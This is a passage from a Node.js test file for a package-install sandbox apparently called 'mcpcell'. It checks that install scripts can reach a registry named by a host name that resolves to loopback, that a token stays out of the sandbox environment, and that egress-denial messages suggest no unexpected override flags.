  if (rep) assert.ok(!rep.env.includes(URL_TOKEN2), 'the token is not in the cell\'s environment');
});

test('a registry named by a host name that resolves to the host\'s loopback (as an intranet name resolves to 10.x): scripts reach it, or the denial offers no flag', { timeout: 120_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const name = os.hostname();
  const addrs = await dns.promises.lookup(name, { all: true }).catch(() => []);
  if (!/^[a-z0-9-]+$/i.test(name) || !addrs.some((a) => a.address.startsWith('127.'))) {
    t.skip(`the host name ${name} does not resolve to 127.x here`);
    return;
  }
  const url = `http://${name}:${front.address().port}/`;
  const r = await runMcpcell(['install', `npx://${BYNAME}@1.0.0`], { env: { ...env, npm_config_registry: url }, guardMs: 110_000 });
  assert.equal(r.code, 0, r.stderr);
  const rep = reportOf(BYNAME);
  t.diagnostic(`answer: ${rep?.answer}`);
  const denials = r.stderr.split('\n').filter((l) => l.includes('egress denied'));
  t.diagnostic(denials.join('\n'));
  for (const line of denials) assert.doesNotMatch(line.split('; to allow it, ')[1] ?? '', /--(?!install-scripts)[a-z-]+|allow_host/, line);
  // The registry's own answer (its root is no package: 404) is the proof it was reached.
  assert.match(rep.answer, /^HTTP\/1\.1 (200|404)/, `the registry the install used is out of the scripts' reach: ${rep.answer}`);
});
